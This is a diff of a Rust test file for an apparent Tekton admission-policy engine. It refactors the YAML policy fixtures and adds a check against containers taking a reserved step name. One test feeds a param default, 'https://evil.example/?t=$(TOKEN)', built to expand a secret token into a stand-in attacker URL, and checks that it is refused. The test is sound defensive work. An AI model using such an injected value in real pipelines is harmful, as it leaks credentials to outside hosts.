@@ -5,25 +5,30 @@
 use super::*;
 use crate::engine::pod::check_pod;
 
-const UPLOAD: &str = r#"
+/// An org post-step holding a Secret in `TOKEN` that passes `sbom_url` (params in it) as data.
+fn upload(sbom_url: &str) -> PolicySet {
+    policies(&format!(
+        r#"
 apiVersion: bookend.dev/v1alpha1
 kind: ClusterStepPolicy
-metadata: {name: org-upload}
+metadata: {{name: org-upload}}
 spec:
   postSteps:
   - name: bookend-upload
     image: curl
     command: [/upload]
     env:
-    - {name: TOKEN, valueFrom: {secretKeyRef: {name: t, key: t}}}
-    - {name: SBOM_URL, value: "$(params.sbom-url)"}
-"#;
+    - {{name: TOKEN, valueFrom: {{secretKeyRef: {{name: t, key: t}}}}}}
+    - {{name: SBOM_URL, value: "{sbom_url}"}}
+"#
+    ))
+}
 
 /// A remote Task's param default reaches the org step as a TaskRun's value does: a `$(` in it
 /// is refused at the dry-run mutation, as it is in an inline taskSpec.
 #[test]
 fn a_remote_tasks_default_carries_no_expansion() {
-    let set = policies(UPLOAD);
+    let set = upload("$(params.sbom-url)");
     let task = json!({"apiVersion": "tekton.dev/v1", "kind": "Task",
         "metadata": {"name": "3f1c", "namespace": "team-a"},
         "spec": {"params": [{"name": "sbom-url", "default": "https://evil.example/?t=$(TOKEN)"}],
@@ -59,21 +64,7 @@ fn a_remote_tasks_default_carries_no_expansion() {
 /// Two values without `$(` that Tekton pastes into one: `…$` then `(TOKEN)`.
 #[test]
 fn pasted_values_make_no_expansion() {
-    let set = policies(
-        r#"
-apiVersion: bookend.dev/v1alpha1
-kind: ClusterStepPolicy
-metadata: {name: org-upload}
-spec:
-  postSteps:
-  - name: bookend-upload
-    image: curl
-    command: [/upload]
-    env:
-    - {name: TOKEN, valueFrom: {secretKeyRef: {name: t, key: t}}}
-    - {name: SBOM_URL, value: "https://$(params.sbom-host)$(params.sbom-path)"}
-"#,
-    );
+    let set = upload("https://$(params.sbom-host)$(params.sbom-path)");
     let taskrun = |host: &str, path: &str| {
         json!({"apiVersion": "tekton.dev/v1", "kind": "TaskRun",
             "metadata": {"name": "r", "namespace": "team-a"},
@@ -176,6 +167,20 @@ fn a_relabelled_taskruns_pod_still_keeps_the_authors_containers_off_org_volumes(
             Ok(Vec::new()),
             "{labels}"
         );
+        // A reserved-prefix name no policy defines is the author's container like any other.
+        let mut named = stealing.clone();
+        for c in named["spec"]["containers"].as_array_mut().unwrap() {
+            if c["name"] == "step-mine" {
+                c["name"] = json!("step-bookend-mine");
+            }
+        }
+        let message = check_pod(&named, &tr, &set, &Catalog::default())
+            .unwrap_err()
+            .message;
+        assert!(
+            message.contains("step-bookend-mine mounts \"bookend-registry\""),
+            "{labels}: {message}"
+        );
     }
 }
 
@@ -184,21 +189,7 @@ fn a_relabelled_taskruns_pod_still_keeps_the_authors_containers_off_org_volumes(
 /// `$(params.git.url)` uses both, and a `$(` in either is refused.
 #[test]
 fn a_dotted_string_param_is_the_object_key_an_org_step_uses() {
-    let set = policies(
-        r#"
-apiVersion: bookend.dev/v1alpha1
-kind: ClusterStepPolicy
-metadata: {name: org-upload}
-spec:
-  postSteps:
-  - name: bookend-upload
-    image: curl
-    command: [/upload]
-    env:
-    - {name: TOKEN, valueFrom: {secretKeyRef: {name: t, key: t}}}
-    - {name: SBOM_URL, value: "$(params.sbom.url)"}
-"#,
-    );
+    let set = upload("$(params.sbom.url)");
     let taskrun = |params: Value| {
         json!({"apiVersion": "tekton.dev/v1", "kind": "TaskRun",
             "metadata": {"name": "r", "namespace": "team-a"},
